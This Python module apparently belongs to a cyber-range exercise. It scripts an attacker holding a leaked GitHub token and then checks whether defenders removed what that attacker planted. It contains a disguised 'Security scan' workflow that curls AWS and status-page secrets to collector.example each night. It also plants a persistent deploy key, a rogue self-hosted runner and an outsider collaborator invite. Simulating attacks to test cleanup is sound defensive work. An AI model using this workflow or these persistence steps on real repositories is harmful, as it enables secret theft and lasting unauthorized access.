"""A thief with somebody's GitHub token: what it makes of it, and what it tries again afterwards.

How it came by the token is the story of a scenario. What it took and made is in memory and shows in no text.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from http import HTTPStatus
from typing import TYPE_CHECKING, Any

import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from bot.range import company
from bot.range.attacker import NothingFound
from bot.range.github import members

if TYPE_CHECKING:
    from bot.range.server import Range

OLD_BRANCH, RUNNER, OUTSIDER = "release-1.3", "SHA1HULUD", "quiet-otter"
PLANTED = ".github/workflows/security-scan.yml"
_OPENSSH = serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
FERRY = f"/repos/{company.FERRY}"
# Nobody starts it: it waits for the night, when nobody looks.
SCAN_YAML = """\
name: Security scan
on:
  schedule:
    - cron: "17 3 * * *"
  workflow_dispatch:

jobs:
  scan:
    runs-on: ubuntu-latest
    steps:
      - name: Scan
        env:
          A: ${{ secrets.AWS_ACCESS_KEY_ID }}
          B: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
          C: ${{ secrets.STATUS_PAGE_TOKEN }}
        run: curl -s -X POST -d "$A $B $C" http://collector.example/
"""


class Thief:
    """A scripted client of GitHub. ``act`` uses the token; ``tries`` asks for all that came of it."""

    def __init__(self, range_: Range, token: str = "") -> None:
        self._range = range_
        self.token = token
        self._key = self._later_key = ""
        self._branches: list[str] = []
        self._runner = 0
        self._invited = False

    # using it ---------------------------------------------------------------------------------------------------

    def act(self, *moves: str) -> list[dict[str, Any]]:
        """Look around, then each move in turn: ``key``, ``workflow:BRANCH``, ``runner``, ``invite``."""
        acts = [
            self._did("github:GetUser", "", "asked GitHub whose token it is", self.call("GET", "/user")),
            self._did(
                "github:ListRepositories", "", "listed every repository that it reaches",
                self.call("GET", "/user/repos"),
            ),
        ]  # fmt: skip
        for move in moves:
            name, _, branch = move.partition(":")
            acts.append(self._push(branch) if branch else getattr(self, f"_{name}_planted")())
        return acts

    @staticmethod
    def _did(name: str, made: str, said: str, answer: requests.Response) -> dict[str, Any]:
        code = "" if answer.status_code < HTTPStatus.BAD_REQUEST else str(answer.status_code)
        return {"act": name, "ok": not code, "code": code, "made": made, "said": said}

    def _key_planted(self) -> dict[str, Any]:
        self._key = public_key()
        body = {"title": "cache-sync", "key": self._key, "read_only": False}
        said = f"added a deploy key to {company.FERRY} that may push, also when the token is gone"
        return self._did("github:AddDeployKey", "cache-sync", said, self.call("POST", f"{FERRY}/keys", body))

    def _push(self, branch: str) -> dict[str, Any]:
        self._branches.append(branch)
        content = base64.b64encode(SCAN_YAML.encode()).decode()
        body = {"message": "Add security scan", "content": content, "branch": branch}
        said = f"pushed a workflow to {branch} that will send away every secret it names, at night"
        answer = self.call("PUT", f"{FERRY}/contents/{PLANTED}", body)
        return self._did("github:PushWorkflow", branch, said, answer)

    def _runner_planted(self) -> dict[str, Any]:
        """A machine of the thief's that GitHub hands jobs of the repository to."""
        answer = self.call("POST", f"{FERRY}/actions/runners/registration-token")
        state = self._range.github.state
        if answer.ok:
            self._runner = members.register(state, state.repos[company.FERRY], answer.json()["token"], RUNNER)
        said = f"registered a machine of its own as a self-hosted runner, {RUNNER}"
        return self._did("github:AddRunner", RUNNER, said, answer)

    def _invite_planted(self) -> dict[str, Any]:
        self._invited = True
        answer = self.call("PUT", f"{FERRY}/collaborators/{OUTSIDER}", {"permission": "push"})
        said = f"invited an account of its own, {OUTSIDER}, which may push once it accepts"
        return self._did("github:InviteCollaborator", OUTSIDER, said, answer)

    def add_key(self) -> None:
        """One more deploy key, while the token works. Raises NothingFound when it does not."""
        self._later_key = public_key()
        body = {"title": "release-sync", "key": self._later_key, "read_only": False}
        status = self.call("POST", f"{FERRY}/keys", body).status_code
        if status >= HTTPStatus.BAD_REQUEST:
            raise NothingFound(f"the token is refused: {status}")

    # trying again -----------------------------------------------------------------------------------------------

    def tries(self) -> Iterator[dict[str, Any]]:
        """The token, and whether each thing that it made is still there."""
        status = self.call("GET", "/user").status_code if self.token else HTTPStatus.UNAUTHORIZED
        yield tried("token", "the leaked token", status == HTTPStatus.UNAUTHORIZED, str(int(status)))
        for name, said, key in (
            ("deploy-key", "a push by the deploy key it added", self._key),
            ("second-deploy-key", "a push by the second deploy key", self._later_key),
        ):
            if key:
                pushes = self._range.github.state.greets(company.FERRY, key)
                yield tried(name, said, not pushes, "Permission denied (publickey)")
        for branch in self._branches:
            status = self.outside("GET", f"{FERRY}/contents/{PLANTED}?ref={branch}").status_code
            said = f"the workflow it pushed to {branch}"
            yield tried(f"workflow-on-{branch}", said, status == HTTPStatus.NOT_FOUND, str(int(status)))
        repo = self._range.github.state.repos[company.FERRY]
        if self._runner:
            there = self._runner in repo.runners
            yield tried("runner", "its own machine, as a runner of the repository", not there, "404")
        if self._invited:
            yield tried("invitation", f"getting in as {OUTSIDER}", not self._gets_in(), "404")

    def _gets_in(self) -> bool:
        """Whether the invited account could accept, or has: it is in when anything was left of it."""
        asked = self.outside("GET", "/user/repository_invitations").json()
        mine = self.outside("GET", "/user/repos").json()
        return any(row["repository"]["full_name"] == company.FERRY for row in asked) or any(
            row["full_name"] == company.FERRY for row in mine
        )

    # asking -----------------------------------------------------------------------------------------------------

    def call(self, method: str, path: str, body: Any = None) -> requests.Response:
        """As the token's owner."""
        return self._request(method, self._range.github_url + path, self.token, body)

    def outside(self, method: str, path: str, body: Any = None) -> requests.Response:
        """As an outsider, with a free account of its own."""
        token = self._range.company.cast["github"][OUTSIDER]
        return self._request(method, self._range.github_url + path, token, body)

    def _request(self, method: str, url: str, token: str, body: Any = None) -> requests.Response:
        with requests.Session() as session:
            session.trust_env = False  # no ~/.netrc, no proxy of the machine
            headers = {"Authorization": f"Bearer {token}"} if token else {}
            return session.request(method, url, json=body, headers=headers, timeout=30)


def public_key() -> str:
    """An SSH key whose other half nobody keeps."""
    return ed25519.Ed25519PrivateKey.generate().public_key().public_bytes(*_OPENSSH).decode()


def tried(name: str, said: str, refused: bool, code: str) -> dict[str, Any]:
    """One try; ``code`` is what refused it."""
    code = code if refused else ""
    return {"name": name, "refused": refused, "code": code, "identity_code": code, "said": said}
